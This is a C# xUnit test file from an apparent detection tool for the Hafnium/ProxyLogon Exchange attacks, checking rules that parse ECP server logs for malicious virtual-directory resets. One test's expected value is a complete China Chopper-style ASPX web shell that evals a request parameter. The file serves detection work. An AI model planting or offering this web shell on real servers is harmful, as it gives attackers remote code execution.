using System;
using System.Collections.Generic;
using System.Linq;
using HafniumTools.Logs;
using HafniumTools.Logs.Ecp;
using HafniumTools.Model;
using Xunit;

namespace HafniumTools.Tests.Logs;

public class EcpServerRulesRobustnessTests
{
    private static List<Finding> Evaluate(ILogRow row)
    {
        var findings = new List<Finding>();
        new EcpServerRules().Evaluate(row, findings);
        return findings;
    }

    [Fact]
    public void AFieldCutAtAnEmbeddedCommaIsReadAgainFromTheRawLine()
    {
        // The payload holds a comma: a reader that split the line there hands over half of EventData.
        string line = System.IO.File.ReadLines(TestLogRow.FixturePath("Ecp", "ECPServer20210303-1.LOG")).ElementAt(7);
        var fields = TestLogRow.SplitCsv(line);
        string full = fields[3];
        string cut = full.Substring(0, full.IndexOf(',', StringComparison.Ordinal));
        var row = new TestLogRow(LogKind.EcpServer, "ECPServer20210303-1.LOG", 8, line, new Dictionary<string, string?> { ["EventData"] = cut, ["TimeStamp"] = fields[0], ["ServerName"] = fields[1] });

        var finding = Assert.Single(Evaluate(row));

        Assert.Equal("HT-ECP-001", finding.RuleId);
        Assert.EndsWith("\"unsafe\");}</script>", finding.Url, StringComparison.Ordinal);
        Assert.Equal(new DateTime(2021, 3, 3, 4, 17, 33, 290, DateTimeKind.Utc), finding.Timestamp);
    }

    [Fact]
    public void AFieldStillCarryingItsCsvQuotesIsUnquoted()
    {
        string line = System.IO.File.ReadLines(TestLogRow.FixturePath("Ecp", "ECPServer20210303-1.LOG")).ElementAt(7);
        string raw = line.Substring(line.IndexOf("\"S:", StringComparison.Ordinal));

        var finding = Assert.Single(Evaluate(TestLogRow.Ecp(raw, 8)));

        Assert.Equal("http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>", finding.Url);
    }

    [Fact]
    public void ReadOnlyResetDialogIsNotAReset()
    {
        Assert.Null(EcpServerRules.ResetWorkflow("/ecp/DDI/DDIService.svc/GetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=x"));
        Assert.Equal("ResetOABVirtualDirectory", EcpServerRules.ResetWorkflow("/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=x"));
        Assert.Equal("ResetEcpVirtualDirectory", EcpServerRules.ResetWorkflow("/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=x&schema=ResetEcpVirtualDirectory"));
        Assert.Null(EcpServerRules.ResetWorkflow("/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory"));
        Assert.Null(EcpServerRules.ResetWorkflow(null));
    }
}
